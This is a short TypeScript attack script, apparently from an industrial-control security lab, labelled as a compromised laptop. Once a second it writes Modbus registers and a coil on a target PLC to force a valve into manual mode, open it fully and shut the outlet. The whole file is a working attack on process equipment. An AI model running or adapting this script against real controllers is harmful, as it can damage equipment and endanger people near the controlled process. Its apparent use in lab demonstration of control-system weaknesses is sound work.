/** The compromised laptop: once a second takes the valve by hand, opens it and shuts the outlet. Usage: modbus-attacker.ts PLC SECONDS */
import { setTimeout as delay } from "node:timers/promises";
import { addressArgument } from "./loop.ts";
import { withConnection } from "./modbus.ts";

const [plc] = addressArgument();
const rounds = Number(process.argv[3] ?? 20);

await withConnection(plc, async (client) => {
  for (let round = 0; round < rounds; round += 1) {
    const nextRound = delay(1000);
    await client.writeRegister(1, 1);
    await client.writeRegister(2, 1000);
    await client.writeCoil(0, false);
    await nextRound;
  }
});
